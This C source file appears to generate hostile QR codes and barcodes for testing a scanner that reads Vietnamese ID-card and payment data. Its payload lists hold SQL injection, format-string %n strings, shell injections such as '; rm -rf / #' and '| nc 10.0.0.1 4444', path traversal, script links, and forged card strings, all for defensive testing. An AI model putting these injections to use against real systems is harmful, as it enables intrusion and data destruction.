/* Words of attack are examples of each family; the seed varies where they stand and what is around them. */
#include "support/hostile_codes.h"

#include <qrencode.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "base/check.h"
#include "support/invented_cards.h"

enum {
    PAYLOAD_BYTES = 2953, /* byte capacity of version 40-L */
    ECI_HEADERS = 560,    /* most that fit one code with a letter each, each header a byte */
    APPEND_PARTS = 6,
    BARS_HIGH = 40, /* in narrow bars */
};

struct maker {
    const struct entropy *random;
    char *canary;
    char bytes[PAYLOAD_BYTES + 1];
    size_t length;
    struct qr_look look;
};

static uint32_t below(const struct maker *maker, uint32_t bound)
{
    uint32_t value;
    maker->random->fill(maker->random->context, &value, sizeof value);
    return value % bound;
}

static const char *one_of(const struct maker *maker, const char *const *words, size_t count)
{
    return words[below(maker, (uint32_t)count)];
}

/* `format` holds up to two %s: the word of attack, then the canary. */
static void write_text(struct maker *maker, const char *before, const char *word, const char *after)
{
    int written = snprintf(maker->bytes, sizeof maker->bytes, "%s%s%s%s", before, word, maker->canary, after);
    maker->length = written > 0 && (size_t)written < sizeof maker->bytes ? (size_t)written : 0;
}

/* The word alone, or as the name or the home of a card. */
static void write_somewhere(struct maker *maker, const char *word)
{
    static const char *const places[][2] = {
        { "", "" },
        { "001199000017|012345678|", "|01021999|Nữ|Số 1, Ngõ 2, Xã Mẫu, Tỉnh Thử|15062021" },
        { "001199000017||Nguyễn ", "|01021999|Nữ|Xã Mẫu, Tỉnh Thử|15062021" },
        { "001199000017||Nguyễn Thị Thử|01021999|Nữ|Số 1 ", ", Xã Mẫu, Tỉnh Thử|15062021" },
        { "D-", "-123456" },
    };
    uint32_t place = below(maker, (uint32_t)ARRAY_LEN(places));
    write_text(maker, places[place][0], word, places[place][1]);
}

static void write_hidden(struct maker *maker, const char *word)
{
    write_text(maker, "001199000017||Nguyễn ", word, "|01021999|Nữ|Xã Mẫu, Tỉnh Thử|15062021");
}

static void write_controls(struct maker *maker)
{
    static const char *const words[] = { "\x1b[2J\x1b[31m", "\x07\x08\x08", "\r\n\r\n", "\x7f\x9b", "\x01\x02\x03" };
    write_somewhere(maker, one_of(maker, words, ARRAY_LEN(words)));
    if (maker->length > 8 && below(maker, 3) == 0)
        maker->bytes[maker->length / 2] = '\0';
}

static void write_long(struct maker *maker)
{
    write_somewhere(maker, "A");
    size_t wanted = 1025 + below(maker, PAYLOAD_BYTES - 1024);
    while (maker->length < wanted) {
        maker->bytes[maker->length] = (char)('a' + maker->length % 26);
        maker->length++;
    }
}

static void write_binary(struct maker *maker)
{
    maker->length = 20 + below(maker, 400);
    maker->random->fill(maker->random->context, maker->bytes, maker->length);
    memcpy(maker->bytes + 4, maker->canary, strlen(maker->canary));
}

static void write_hex(struct maker *maker)
{
    static const char *const words[] = { "\x1b[31m", "' OR 1=1 --", "%s%n%n", "\xE2\x80\xAE", "\xFF\xFE", "<b>" };
    char hidden[64], hex[160] = "";
    int length = snprintf(hidden, sizeof hidden, "%s%s", one_of(maker, words, ARRAY_LEN(words)), maker->canary);
    for (int i = 0; i < length; i++)
        snprintf(hex + 2 * i, 3, "%02x", (unsigned char)hidden[i]);
    write_text(maker, "HS4010199000017|", hex,
               "|01/01/2012|2|-|01 - 999|01/01/2020|31/12/2020|15/01/2020|01010199000017|-|4|-|0123-7102|$");
}

static void write_forged(struct maker *maker)
{
    static const char *const words[][2] = {
        { "KIOSK-STAFF|", "|0000" },
        { "00020101021238540010A00000072701240006970436011010175956000208QRIBFTTA530370454061800005802VN62230819",
          "6304FFFF" },
        { "IDVNM1990000173001199000017<<4\n9901018F3901016VNM<<<<<<<<<<<1\nNGUYEN<<", "<<<<<<<<<<" },
    };
    uint32_t word = below(maker, (uint32_t)ARRAY_LEN(words));
    write_text(maker, words[word][0], "", words[word][1]);
}

static void write_payload(struct maker *maker, enum hostile_kind kind)
{
    static const char *const sql[] = { "' OR '1'='1' -- ", "'; DROP TABLE outbox; --", "\" UNION SELECT * FROM t--" };
    static const char *const formats[] = { "%s%s%s%s%n", "%x.%x.%x.%08x", "{0}{1}%p", "%99999999d" };
    static const char *const shells[] = { "$(reboot)", "`id`;", "; rm -rf / #", "| nc 10.0.0.1 4444 ",
                                          "../../etc/passwd%00" };
    static const char *const links[] = {
        "https://",  "http://", "HTTPS://evil.example/", "javascript:alert(1)//", "file:///",
        "intent://", "www.",    "market://details?id=",  "data:text/html,",       "ftp://x@"
    };
    static const char *const bidi[] = { "\xE2\x80\xAE", "\xE2\x80\x8B",     "\xE2\x81\xA6",
                                        "\xEF\xBB\xBF", "\xF3\xA0\x81\x81", "\xC2\xAD" };
    static const char *const alike[] = { "\xD0\x90n", "\xCE\x91n", "\xEF\xBC\xA1n", "\xF0\x9D\x90\x80",
                                         "\xE2\x84\xAA" };
    switch (kind) {
    case HOSTILE_CONTROLS:
        write_controls(maker);
        break;
    case HOSTILE_LONG:
        write_long(maker);
        break;
    case HOSTILE_BINARY:
        write_binary(maker);
        break;
    case HOSTILE_SQL:
        write_somewhere(maker, one_of(maker, sql, ARRAY_LEN(sql)));
        break;
    case HOSTILE_FORMAT:
        write_somewhere(maker, one_of(maker, formats, ARRAY_LEN(formats)));
        break;
    case HOSTILE_SHELL:
        write_somewhere(maker, one_of(maker, shells, ARRAY_LEN(shells)));
        break;
    case HOSTILE_URL:
        if (below(maker, 2))
            write_text(maker, "", one_of(maker, links, ARRAY_LEN(links)), "/?q=1");
        else
            write_text(maker, "001199000017||Nguyễn Thị Thử|01021999|Nữ|", one_of(maker, links, ARRAY_LEN(links)),
                       "/?q=1|15062021");
        break;
    case HOSTILE_BIDI:
        write_hidden(maker, one_of(maker, bidi, ARRAY_LEN(bidi)));
        break;
    case HOSTILE_HOMOGLYPH:
        write_hidden(maker, one_of(maker, alike, ARRAY_LEN(alike)));
        break;
    case HOSTILE_HEX_INSIDE:
        write_hex(maker);
        break;
    case HOSTILE_FORGED:
        write_forged(maker);
        break;
    default: /* a card that would be good */
        write_hidden(maker, "");
        break;
    }
}

static bool draw_code(QRcode *code, const struct maker *maker, struct qr_canvas *out)
{
    bool drawn =
        code && qr_picture_of_modules(code->data, (uint32_t)code->width, (uint32_t)code->width, &maker->look, out);
    QRcode_free(code);
    return drawn;
}

static bool draw_eci(struct maker *maker, bool many, struct qr_canvas *out)
{
    /* UTF-8, then sets zbar knows and turns bytes into something else by. A set it does not know changes nothing. */
    static const unsigned sets[] = { 26, 0, 1, 2, 3, 4, 9, 13, 20 };
    QRinput *input = QRinput_new2(0, QR_ECLEVEL_L);
    int rc = input ? 0 : -1;
    bool leaking = many && below(maker, 4) != 0; /* UTF-8 said anew for every letter leaks most */
    for (int i = 0; rc == 0 && i < (many ? ECI_HEADERS : 1); i++) {
        unsigned set = leaking ? sets[0] : sets[1 + below(maker, (uint32_t)ARRAY_LEN(sets) - 1)];
        rc = QRinput_appendECIheader(input, set);
        if (rc == 0)
            rc = QRinput_append(input, QR_MODE_8, many ? 1 : (int)maker->length, (const unsigned char *)maker->bytes);
    }
    QRcode *code = rc == 0 ? QRcode_encodeInput(input) : NULL;
    if (input)
        QRinput_free(input);
    return draw_code(code, maker, out);
}

/* One part of several, the others nowhere. */
static bool draw_part(struct maker *maker, struct qr_canvas *out)
{
    QRinput *input = QRinput_new2(4, QR_ECLEVEL_M);
    for (int i = 0; input && i < APPEND_PARTS; i++)
        if (QRinput_append(input, QR_MODE_8, (int)(maker->length > 60 ? 60 : maker->length),
                           (const unsigned char *)maker->bytes) != 0)
            break;
    QRinput_Struct *parts = input ? QRinput_splitQRinputToStruct(input) : NULL;
    QRcode_List *list = parts ? QRcode_encodeInputStructured(parts) : NULL;
    bool drawn = false;
    if (list) {
        const QRcode_List *at = list;
        for (uint32_t skip = below(maker, (uint32_t)QRcode_List_size(list)); skip > 0; skip--)
            at = at->next;
        uint32_t width = (uint32_t)at->code->width;
        drawn = qr_picture_of_modules(at->code->data, width, width, &maker->look, out);
    }
    QRcode_List_free(list);
    QRinput_Struct_free(parts);
    if (input)
        QRinput_free(input);
    return drawn;
}

static bool draw_two(struct maker *maker, struct qr_canvas *out)
{
    struct qr_canvas sides[2] = { 0 };
    bool drawn = true;
    for (int i = 0; i < 2 && drawn; i++) {
        struct invented_card card;
        invented_card_make(below(maker, 1000), maker->random, &card);
        drawn = qr_picture_draw(str_from(card.payload), QR_ONE_SEGMENT, &maker->look, &sides[i]);
    }
    drawn = drawn && qr_picture_beside(&sides[0], &sides[1], out);
    qr_canvas_free(&sides[0]);
    qr_canvas_free(&sides[1]);
    return drawn;
}

/* Letters of Code 39 as nine bars and spaces, wide ones set; ISO/IEC 16388 table 1, here * and A to Z. */
static bool draw_bars(struct maker *maker, struct qr_canvas *out)
{
    static const char *const letters[] = { "100001001", "001001001", "101001000", "000011001", "100011000", "001011000",
                                           "000001101", "100001100", "001001100", "000011100", "100000011", "001000011",
                                           "101000010", "000010011", "100010010", "001010010", "000000111", "100000110",
                                           "001000110", "000010110", "110000001", "011000001", "111000000", "010010001",
                                           "110010000", "011010000" };
    static const char star[] = "010010100";
    uint8_t row[HOSTILE_CANARY_BYTES * 2 * 16 + 64] = { 0 };
    uint32_t width = 0;
    size_t length = strlen(maker->canary);
    for (size_t i = 0; i < length + 2; i++) {
        const char *bars = i == 0 || i > length ? star : letters[maker->canary[i - 1] - 'A'];
        for (int k = 0; k < 9; k++)
            for (int wide = bars[k] == '1' ? 3 : 1; wide > 0; wide--)
                row[width++] = k % 2 == 0;
        width++; /* the gap */
    }
    uint8_t *modules = malloc((size_t)width * BARS_HIGH);
    for (uint32_t y = 0; modules && y < BARS_HIGH; y++)
        memcpy(modules + (size_t)y * width, row, width);
    bool drawn = modules && qr_picture_of_modules(modules, width, BARS_HIGH, &maker->look, out);
    free(modules);
    return drawn;
}

static bool draw_damaged(struct maker *maker, struct qr_canvas *out)
{
    QRcode *code = QRcode_encodeData((int)maker->length, (const unsigned char *)maker->bytes, 0, QR_ECLEVEL_M);
    if (!code)
        return false;
    uint32_t width = (uint32_t)code->width;
    for (uint32_t i = 0; i < width * width / 4; i++) /* a quarter: level M mends an eighth at best */
        code->data[below(maker, width * width)] ^= 1;
    return draw_code(code, maker, out);
}

static bool draw(struct maker *maker, enum hostile_kind kind, struct qr_canvas *out)
{
    switch (kind) {
    case HOSTILE_ECI_LIE:
        return draw_eci(maker, false, out);
    case HOSTILE_ECI_560:
        return draw_eci(maker, true, out);
    case HOSTILE_APPEND:
        return draw_part(maker, out);
    case HOSTILE_TWO:
        return draw_two(maker, out);
    case HOSTILE_MICRO:
        return draw_code(
            QRcode_encodeDataMQR((int)strlen(maker->canary), (const unsigned char *)maker->canary, 4, QR_ECLEVEL_L),
            maker, out);
    case HOSTILE_BARS:
        return draw_bars(maker, out);
    case HOSTILE_DAMAGED:
        return draw_damaged(maker, out);
    default:
        return draw_code(QRcode_encodeData((int)maker->length, (const unsigned char *)maker->bytes, 0, QR_ECLEVEL_L),
                         maker, out);
    }
}

static bool make(enum hostile_kind kind, const struct entropy *random, bool inverted, bool mirrored,
                 struct hostile_code *out)
{
    struct maker maker = { .random = random, .canary = out->canary };
    *out = (struct hostile_code){ .kind = kind };
    for (size_t i = 0; i + 1 < sizeof out->canary; i++)
        out->canary[i] = (char)('A' + below(&maker, 26));
    maker.look = (struct qr_look){ .scale_px = 3 + (int)below(&maker, 3), .inverted = inverted, .mirrored = mirrored };
    write_payload(&maker, kind);
    return draw(&maker, kind, &out->canvas);
}

bool hostile_code_make(uint32_t index, const struct entropy *random, struct hostile_code *out)
{
    return make((enum hostile_kind)(index % HOSTILE_KIND_COUNT), random, index % 7 == 6, index % 11 == 10, out);
}

bool hostile_code_of(enum hostile_kind kind, const struct entropy *random, struct hostile_code *out)
{
    return make(kind, random, false, false, out);
}

const char *hostile_kind_name(enum hostile_kind kind)
{
    static const char *const names[] = {
#define HOSTILE_NAME(name) #name,
        HOSTILE_LIST(HOSTILE_NAME)
#undef HOSTILE_NAME
    };
    ASSERT((unsigned)kind < HOSTILE_KIND_COUNT);
    return names[kind];
}
